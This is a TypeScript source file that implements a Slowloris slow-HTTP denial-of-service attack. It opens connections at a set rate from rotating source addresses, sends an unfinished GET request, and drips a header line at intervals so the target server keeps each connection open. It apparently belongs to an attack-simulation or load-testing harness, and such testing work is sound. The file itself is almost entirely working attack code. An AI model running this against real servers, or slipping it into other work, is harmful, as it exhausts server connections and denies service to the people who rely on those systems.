// The process of a slow attack, in the client's namespace: connections whose requests never end, each of them a header line
// every so often, so that a server waits and keeps what a connection takes (Slowloris). Its argument is a SlowProcessOptions
// in JSON; it says what it does by lines of JSON on stdout, and ends when stdin says `stop` or closes. Those that a
// server closes are begun again, at the rate.

import { connect, type Socket } from 'node:net'
import { createInterface } from 'node:readline'
import { setTimeout as delay } from 'node:timers/promises'
import type { AttackReport } from './attack-process.ts'

/** SlowProcessOptions: the argument. `perSecond`: connections begun; `most`: open at a time; `from`: from these addresses in turn. */
export interface SlowProcessOptions {
  readonly from: readonly string[]
  readonly address: string
  readonly port: number
  readonly perSecond: number
  readonly most: number
  readonly everyMs: number
  readonly reportMs: number
}

const { from, address, port, perSecond, most, everyMs, reportMs } = JSON.parse(
  process.argv[2]!,
) as SlowProcessOptions

const PACE_MS = 5
const startedAt = performance.now()
const open = new Set<Socket>()
let [begun, stopped] = [0, false]

function begin(): void {
  begun++
  const socket = connect({ host: address, port, localAddress: from[begun % from.length]! })
  const more = setInterval(() => socket.write(`X-${begun}: ${Date.now()}\r\n`), everyMs)
  open.add(socket)
  socket
    .on('connect', () => socket.write(`GET / HTTP/1.1\r\nHost: ${address}\r\n`))
    .on('error', () => undefined)
    .on('close', () => {
      clearInterval(more)
      open.delete(socket)
    })
  // What the server says is of no interest, but that it ends.
  socket.resume()
}

function report(event: AttackReport['event']): void {
  const line: AttackReport = {
    event,
    sent: begun,
    elapsedMs: performance.now() - startedAt,
    open: open.size,
  }
  process.stdout.write(`${JSON.stringify(line)}\n`)
}

process.stdout.on('error', () => process.exit(1))
createInterface({ input: process.stdin })
  .on('line', (line) => {
    if (line === 'stop') stopped = true
  })
  .on('close', () => {
    stopped = true
  })
report('ready')
const ticks = setInterval(() => report('tick'), reportMs)
for (let paidUntil = startedAt; !stopped; await delay(PACE_MS)) {
  const gapMs = 1000 / perSecond
  for (const now = performance.now(); paidUntil + gapMs <= now; paidUntil += gapMs)
    if (open.size < most) begin()
}
clearInterval(ticks)
report('end')
process.exit(0)
